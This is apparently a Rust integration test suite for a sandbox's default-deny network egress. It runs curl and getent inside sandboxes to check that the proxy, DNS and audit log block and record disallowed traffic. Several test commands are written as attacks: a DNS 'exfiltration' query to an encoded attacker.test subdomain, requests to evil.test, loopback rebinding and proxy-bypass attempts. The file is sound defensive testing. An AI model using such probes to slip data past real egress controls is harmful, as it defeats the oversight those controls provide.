//! Egress: default-deny through the supervisor's proxy and DNS answerer,
//! attacked from inside real sandboxes with real tools (curl, getent).
//!
//! The "internet" here is an HTTP server on the host's loopback, reached
//! through names mapped with `network.hosts`: the proxy refuses loopback
//! unless a rule names the address, so the tests name it where they mean
//! to reach it and leave it out where they test that refusal.

use super::common::*;
use std::io::{BufRead, BufReader, Write};
use std::net::TcpListener;

/// An HTTP server on 127.0.0.1 answering `ok <request line>`.
fn upstream() -> u16 {
    let l = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = l.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for s in l.incoming().flatten() {
            std::thread::spawn(move || {
                let mut r = BufReader::new(&s);
                let mut line = String::new();
                let _ = r.read_line(&mut line);
                loop {
                    let mut h = String::new();
                    if r.read_line(&mut h).unwrap_or(0) == 0 || h == "\r\n" {
                        break;
                    }
                }
                let body = format!("ok {}", line.trim_end());
                let _ = (&s).write_all(
                    format!(
                        "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
                        body.len()
                    )
                    .as_bytes(),
                );
            });
        }
    });
    port
}

fn audit_events(c: &Ctx, name: &str) -> Vec<serde_json::Value> {
    std::fs::read_to_string(c.data.join(format!("audit/{name}.jsonl")))
        .unwrap_or_default()
        .lines()
        .filter_map(|l| serde_json::from_str(l).ok())
        .collect()
}

all_backends!(egress_follows_the_allowlist, |c: Ctx| {
    let (port, port2) = (upstream(), upstream());
    c.add_config(&format!(
        "network:\n  allowed_domains: [\"svc.test:{port}\", \"127.0.0.1:{port}\", \"rebind.test:{port2}\"]\n  hosts: [\"svc.test=127.0.0.1\", \"rebind.test=127.0.0.1\"]\n"
    ));
    let ws = c.ws.display().to_string();
    ok(&c.out(&["start", "-w", &ws, "--name", "egress"]));
    let sh = |script: &str| c.out(&["exec", "--name", "egress", "--", "sh", "-c", script]);

    // Allowed: through the proxy variables, and by name without them (the
    // aibox DNS hands out a synthetic address the proxy serves).
    let out = ok(&sh(&format!(
        "curl -sS http://svc.test:{port}/via-proxy; echo; curl -sS --noproxy '*' http://svc.test:{port}/via-dns; echo; getent hosts svc.test"
    )));
    assert!(out.contains("ok GET /via-proxy HTTP/1.1"), "{out}");
    assert!(out.contains("ok GET /via-dns HTTP/1.1"), "{out}");
    assert!(
        out.contains("127.100.0.1") && out.contains("svc.test"),
        "{out}"
    );

    // Denied: a 403 that names the rule to add, for plain HTTP and CONNECT.
    let out = stdout(&sh(
        "curl -sS http://evil.test/ ; curl -sS https://evil.test/ 2>&1; true",
    ));
    assert!(
        out.contains("add `evil.test` to network.allowed_domains"),
        "{out}"
    );
    assert!(out.contains("CONNECT tunnel failed, response 403"), "{out}");
    // An allowed name resolving to loopback (no rule names the address).
    let out = stdout(&sh(&format!("curl -sS http://rebind.test:{port2}/")));
    assert!(out.contains("127.0.0.1, a loopback address"), "{out}");
    // A raw IP with no rule naming it, through the proxy.
    let out = stdout(&sh(&format!("curl -sS http://127.0.0.2:{port}/")));
    assert!(out.contains("no rule names this address"), "{out}");
    // Denied names do not resolve, whatever the record type; nothing is
    // forwarded to a real DNS server (a TXT "exfiltration" gets nothing).
    let o = sh(
        "getent hosts evil.test; echo rc=$?; getent ahosts mfzwizltoq.attacker.test; echo rc=$?",
    );
    assert_eq!(stdout(&o).matches("rc=2").count(), 2, "{}", stdout(&o));
    // Around the proxy: the sandbox's own loopback has no way out, and an
    // address the DNS did not hand out is refused.
    let out = stdout(&sh(&format!(
        "curl -sS --noproxy '*' http://127.0.0.1:{port}/ 2>&1; curl -sS --noproxy '*' --connect-timeout 3 http://1.1.1.1/ 2>&1; true"
    )));
    assert!(!out.contains("ok GET"), "{out}");

    let st: serde_json::Value = serde_json::from_str(&ok(
        &c.out(&["status", "--name", "egress", "--format", "json"])
    ))
    .unwrap();
    let net = &st["network"];
    assert!(net["allow_count"].as_u64().unwrap() >= 2, "{net}");
    assert!(net["deny_count"].as_u64().unwrap() >= 4, "{net}");
    assert!(net["dns_refused"].as_u64().unwrap() >= 2, "{net}");
    ok(&c.out(&["stop", "--name", "egress"]));

    let events = audit_events(&c, "egress");
    let has = |t: &str, f: &dyn Fn(&serde_json::Value) -> bool| {
        events
            .iter()
            .any(|e| e["event_type"] == t && f(&e["details"]))
    };
    assert!(has("network.allow", &|d| d["host"] == "svc.test"
        && d["via"] == "proxy"
        && d["bytes_down"].as_u64() > Some(0)));
    assert!(has("network.allow", &|d| d["host"] == "svc.test"
        && d["via"] == "transparent"));
    assert!(has("network.deny", &|d| d["host"] == "evil.test"
        && d["method"] == "CONNECT"));
    assert!(has("network.deny", &|d| d["host"] == "rebind.test"));
    assert!(has("dns.query", &|d| d["name"] == "evil.test"));
    assert!(has("dns.response", &|d| d["name"] == "evil.test"
        && d["rcode"] == "NXDomain"));
    assert!(has("dns.response", &|d| d["name"] == "svc.test"
        && d["address"] == "127.100.0.1"));
    assert!(ok(&c.out(&["audit", "verify", "--name", "egress"])).contains("intact"));
});

all_backends!(network_off_means_no_egress_path, |c: Ctx| {
    c.add_config("network:\n  enabled: false\n");
    let out = stdout(&c.sh(
        "env | grep -ci proxy; curl -sS http://127.0.0.1:3128/ 2>&1; getent hosts deb.debian.org; echo rc=$?",
    ));
    assert!(out.starts_with("0\n"), "{out}");
    assert!(
        out.contains("Connection refused") || out.contains("Couldn't connect"),
        "{out}"
    );
    assert!(out.contains("rc=2"), "{out}");
});

both_modes!(bad_network_rules_are_refused_before_start, |c: Ctx| {
    c.add_config("network:\n  allowed_domains: [\"*\", \"user@evil.test\"]\n");
    let o = c.sh("true");
    assert_ne!(o.status.code(), Some(0));
    let err = stderr(&o);
    assert!(
        err.contains("network.allowed_domains") && err.contains("allow-all"),
        "{err}"
    );
});
